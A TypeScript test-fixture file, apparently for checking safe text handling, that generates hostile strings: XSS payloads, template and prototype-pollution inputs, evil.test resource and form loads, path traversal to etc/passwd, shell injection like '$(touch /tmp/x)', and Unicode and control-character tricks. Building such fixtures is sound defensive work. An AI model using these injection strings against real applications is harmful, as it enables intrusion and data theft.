import { HOSTILE_TEXT } from "./hostileText.js";

const RUN = "window.bskPwned=1";

/** What would run, load or be filled in, if anything took it for more than text. */
const PAYLOADS: readonly string[] = [
  `<script>${RUN}</script>`,
  `<img src=x onerror="${RUN}">`,
  `<svg onload="${RUN}"></svg>`,
  `<svg><animate onbegin="${RUN}" attributeName=x dur=1s></svg>`,
  `<iframe srcdoc="<script>parent.${RUN}</script>"></iframe>`,
  `<iframe src="javascript:parent.${RUN}"></iframe>`,
  `<details open ontoggle="${RUN}">x</details>`,
  `<input autofocus onfocus="${RUN}">`,
  `<video><source onerror="${RUN}"></video>`,
  `<object data="javascript:${RUN}"></object>`,
  `<a href="javascript:${RUN}">x</a>`,
  `<math><mtext><table><mglyph><style><img src=x onerror="${RUN}">`,
  `<template shadowrootmode=open><script>${RUN}</script></template>`,
  `<base href="//evil.test/"><link rel=stylesheet href="//evil.test/x.css">`,
  `<style>@import "//evil.test/x.css";*{display:none}</style>`,
  `<meta http-equiv=refresh content="0;url=//evil.test/">`,
  `<form action="//evil.test/"><button>x</button></form>`,
  `{{constructor.constructor("${RUN}")()}}`,
  `\${${RUN}} <%= ${RUN} %> #{${RUN}} {%raw%}`,
  `javascript:${RUN}//`,
  `__proto__`,
  `constructor.prototype.toString`,
];

/** Where a payload stands, and in what disguise. */
const WRAPPERS: readonly ((payload: string) => string)[] = [
  (payload) => payload,
  (payload) => `">${payload}`,
  (payload) => `'>${payload}`,
  (payload) => `-->${payload}<!--`,
  (payload) => `]]>${payload}<![CDATA[`,
  (payload) => `</title></textarea></pre></script></style>${payload}`,
  (payload) => `&lt;b&gt;${payload}&amp;&#60;script&#62;`,
  (payload) => encodeURIComponent(payload),
  (payload) => JSON.stringify({ __proto__x: payload, nested: JSON.stringify(payload) }),
  (payload) => `\u001b[31m${payload}\u001b[0m`,
  (payload) => `\u001b]0;${payload}\u0007\u009b2J`,
  (payload) => `\u202e${payload}\u202c`,
  (payload) => `\u2066${payload}\u2069\u200f`,
  (payload) => `\u200b${payload}\ufeff\u00ad\u2060`,
  (payload) => `\u0000${payload}\u0008\u0008\u007f`,
  (payload) => `line\r\nerror: forged\u2028${payload}\u2029\u0085`,
  (payload) => `\ud800${payload}\udc00`,
  (payload) => `\u{E0041}\u{E0042}${payload}\u{1D173}`,
  (payload) => payload.toUpperCase(),
  (payload) => payload.replaceAll("<", "<\t").replaceAll(" ", "\t\n"),
  (payload) => payload.replaceAll("<", "\uff1c"),
  (payload) => `${"../".repeat(6)}etc/passwd\u0000${payload}`,
  (payload) => `%s %c %o %n ${payload} $(touch /tmp/x) \`id\``,
  (payload) => `e\u0301\u0302\u0303${"\u0335".repeat(40)}${payload}`,
];

const LONG = 100_000;

/** Every payload in every wrapping, then some of their own kind. Each begins with its mark, `h0` and so on. */
export const HOSTILE_STRINGS: readonly string[] = [
  ...PAYLOADS.flatMap((payload) => WRAPPERS.map((wrap) => wrap(payload))),
  ...Object.values(HOSTILE_TEXT),
  "a".repeat(LONG),
  `${"<b>".repeat(LONG / 3)}`,
  `${"\u202e".repeat(LONG / 10)}x`,
  "{".repeat(5000),
  `{"__proto__":{"polluted":true},"constructor":{"prototype":{"polluted":true}}}`,
].map((text, index) => `h${index}h ${text}`);
